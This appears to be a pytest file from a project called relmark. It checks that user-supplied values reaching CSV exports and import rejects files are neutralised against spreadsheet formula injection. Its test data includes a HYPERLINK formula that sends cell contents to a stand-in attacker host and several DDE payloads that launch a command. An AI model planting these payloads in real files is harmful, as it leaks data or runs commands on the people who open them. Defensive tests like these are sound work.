"""CSV formula injection (issue 12, defect 7): a `=HYPERLINK(…)` user id sent to the public
tracking endpoint must not reach a spreadsheet as a formula through any CSV relmark writes."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from relmark.csvsafe import safe_cell, safe_frame, write_rows
from relmark.interfaces.cli import app

from .conftest import Web

runner = CliRunner()
PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'
SRC = Path(__file__).resolve().parents[2] / "src" / "relmark"


@pytest.mark.parametrize(
    "cell",
    [
        PAYLOAD,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "-A1",
        "+1:1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-12.50", "+386 40 123 456", "-", "(555) 010-2000", "Mia", "a=b", "", "'=1"]
)
def test_numbers_phones_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_numeric_columns_keep_their_negative_numbers() -> None:
    frame = pl.DataFrame({"id": ["=1+1", "x"], "amount": [-5, 7], "rate": [-0.5, 1.0]})
    safe = safe_frame(frame)
    assert safe.schema == frame.schema
    assert safe.to_dicts() == [
        {"id": "'=1+1", "amount": -5, "rate": -0.5},
        {"id": "x", "amount": 7, "rate": 1.0},
    ]


def test_rows_written_with_the_standard_writer_are_neutralised() -> None:
    handle = io.StringIO()
    write_rows(handle, ["id", "amount"], [[PAYLOAD, -3]])
    assert list(csv.reader(io.StringIO(handle.getvalue()))) == [
        ["id", "amount"],
        ["'" + PAYLOAD, "-3"],
    ]


def db_url(web: Web) -> str:
    return web.shop.engine.url.render_as_string(hide_password=False)


def test_a_tracked_formula_reaches_exports_and_rejects_as_text(web: Web, tmp_path: Path) -> None:
    # given a user id that is a formula, sent to the public tracking endpoint
    body = {"batch": [{"type": "identify", "userId": PAYLOAD, "traits": {"firstName": "Eve"}}]}
    sent = web.client.post("/v1/batch", content=json.dumps(body), headers=web.as_role("ingest"))
    assert sent.status_code == 200, sent.text
    # when the identities are exported
    out = tmp_path / "identities.csv"
    result = runner.invoke(app, ["export", "identities", "--out", str(out), "--db", db_url(web)])
    assert result.exit_code == 0, result.output
    # then the cell is text to a spreadsheet, and the ids stay numbers
    exported = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [(r["source"], r["external_id"]) for r in exported] == [("segment", "'" + PAYLOAD)]
    assert exported[0]["customer_id"].isdigit()

    # given an order for that user with a negative amount, which the importer rejects
    orders = tmp_path / "orders.csv"
    with orders.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [
                ["order_id", "customer_id", "ordered_at", "amount", "currency"],
                ["W1", PAYLOAD, "2026-05-01", "-5.00", "EUR"],
            ]
        )
    # when it is imported, skipping invalid rows
    result = runner.invoke(
        app,
        ["import", "orders", str(orders), "--source", "segment", "--skip-invalid"]
        + ["--db", db_url(web)],
    )
    assert result.exit_code == 0, result.output
    # then the rejects file neutralises the formula and keeps the amount a number
    rejects = list(csv.DictReader((tmp_path / "orders.csv.rejects.csv").open(encoding="utf-8")))
    assert rejects[0]["customer_id"] == "'" + PAYLOAD
    assert rejects[0]["amount"] == "-5.00"
    assert "must not be negative" in rejects[0]["reason"]


WRITERS = re.compile(r"\.write_csv\(|csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.sink_csv\(")
#: Writers whose CSV no person opens: PostgreSQL's COPY stream and a hash of scoring input.
NOT_FOR_PEOPLE = {"store/bulk.py", "differentiate/score.py", "csvsafe.py"}


def test_every_csv_writer_in_relmark_goes_through_the_safe_helper() -> None:
    direct = sorted(
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
        and str(path.relative_to(SRC)) not in NOT_FOR_PEOPLE
    )
    assert direct == [], "write CSV with relmark.csvsafe.write_csv or write_rows"
